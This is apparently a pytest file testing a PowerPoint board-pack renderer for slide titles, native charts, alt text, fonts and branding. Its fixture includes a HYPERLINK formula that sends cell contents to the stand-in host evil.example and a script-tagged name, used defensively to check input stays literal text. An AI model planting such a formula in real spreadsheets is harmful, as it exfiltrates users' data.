"""The board pack: 10 to 15 slides with native, editable charts, alt text on every chart and picture, a title on
every slide, the branding colour, and people's words exactly as typed."""

from __future__ import annotations

import base64
import io

import pytest
from pptx import Presentation
from pptx.enum.chart import XL_CHART_TYPE
from pptx.util import Pt

from assessment.content.framework import builtin_framework
from assessment.engine.cover import Branding
from assessment.engine.report import ActionItem, build_report
from assessment.engine.responses import Answer, Responses
from assessment.reports.board_pack import render_pptx
from tests.utils.reports import MADE_ON, follow_up_report, riverbrook

FORMULA = '=HYPERLINK("http://evil.example/?d="&A2&B2,"Open")'
LOGO = base64.b64encode(
    bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                  "1f15c4890000000d49444154789c63f8cfc0f01f0005000201e2ad5d350000000049454e44ae426082")).decode()


def _deck(report) -> Presentation:  # type: ignore[no-untyped-def]
    return Presentation(io.BytesIO(render_pptx(report)))


def _shapes(deck):  # type: ignore[no-untyped-def]
    return [shape for slide in deck.slides for shape in slide.shapes]


def _alt(shape) -> str | None:  # type: ignore[no-untyped-def]
    return shape._element.xpath("./*[1]/p:cNvPr")[0].get("descr")


@pytest.fixture(scope="module")
def follow_up():
    ham = builtin_framework("ham-2015")
    return follow_up_report(
        partnership="<script>Riverbrook</script>",
        branding=Branding(name="Hartley Consulting", colour="#330072", logo_data_uri=f"data:image/png;base64,{LOGO}"),
        actions=[ActionItem(principle=ham.principles[6].name, text=FORMULA, owner="Finance leads", due=None)])


def test_a_follow_up_pack_has_every_part_the_board_needs(follow_up):
    deck = _deck(follow_up)
    titles = [slide.shapes.title.text for slide in deck.slides]
    assert 10 <= len(titles) <= 15
    assert titles[0] == "<script>Riverbrook</script>"  # the words as typed, never markup
    for wanted in ("Where we stand", "Our profile beside the exemplars", "Strengths and priorities",
                   "Where the room was split", "Where sectors see things differently",
                   "Where the exemplars are furthest ahead", "Recommendations for the next six months",
                   "Actions agreed", "Since the baseline", "What the numbers rest on"):
        assert wanted in titles
    assert sum(t.startswith("Priority ") for t in titles) == 3
    words = [p.text for shape in _shapes(deck) if shape.has_text_frame for p in shape.text_frame.paragraphs]
    cells = [cell.text for shape in _shapes(deck) if shape.has_table for row in shape.table.rows for cell in row.cells]
    assert FORMULA in cells  # a cell of a table, as text
    assert any("Hartley Consulting" in w for w in words)


def test_charts_are_native_and_every_chart_and_picture_has_alt_text(follow_up):
    deck = _deck(follow_up)
    charts = [shape for shape in _shapes(deck) if shape.has_chart]
    kinds = {shape.chart.chart_type for shape in charts}
    assert XL_CHART_TYPE.RADAR_MARKERS in kinds and XL_CHART_TYPE.COLUMN_CLUSTERED in kinds
    assert XL_CHART_TYPE.BAR_CLUSTERED in kinds
    radar = next(shape.chart for shape in charts if shape.chart.chart_type == XL_CHART_TYPE.RADAR_MARKERS)
    assert next(s.name for s in radar.plots[0].series) == "This room (mean)"
    assert len(list(radar.plots[0].categories)) == 10
    assert radar.value_axis.minimum_scale == 1 and radar.value_axis.maximum_scale == 5
    pictures = [shape for shape in _shapes(deck) if shape.shape_type == 13]  # the logo
    assert pictures and charts
    assert all(_alt(shape) for shape in charts + pictures)


def test_slides_read_from_the_back_of_a_room_in_the_branding_colour(follow_up):
    deck = _deck(follow_up)
    sizes = [run.font.size for shape in _shapes(deck) if shape.has_text_frame
             for p in shape.text_frame.paragraphs for run in p.runs if run.font.size is not None]
    footer = Pt(11)  # the footer naming the report on every slide, read close up
    assert min(set(sizes) - {footer}) >= Pt(14)
    title = deck.slides[1].shapes.title.text_frame.paragraphs[0].runs[0]
    assert str(title.font.color.rgb) == "330072"
    assert deck.slide_width > deck.slide_height  # 16:9


def test_a_baseline_report_without_sectors_or_exemplars_still_makes_a_whole_pack():
    ham = builtin_framework("ham-2015")
    _, answers = riverbrook()
    no_sectors = Responses.from_answers(Answer(**{**a.__dict__, "sector": None}) for a in answers.answers())
    deck = _deck(build_report(ham, no_sectors, partnership="Plainbrook", today=MADE_ON))
    titles = [slide.shapes.title.text for slide in deck.slides]
    assert 10 <= len(titles) <= 15 and "Since the baseline" not in titles
    sectors = deck.slides[titles.index("Where sectors see things differently")]
    assert any("Sectors could not be compared: nobody gave a sector" in shape.text_frame.text
               for shape in sectors.shapes if shape.has_text_frame)


def test_the_pack_is_a_valid_package_that_reopens_and_saves_again(follow_up):
    deck = _deck(follow_up)
    again = io.BytesIO()
    deck.save(again)
    assert len(Presentation(io.BytesIO(again.getvalue())).slides) == len(deck.slides)
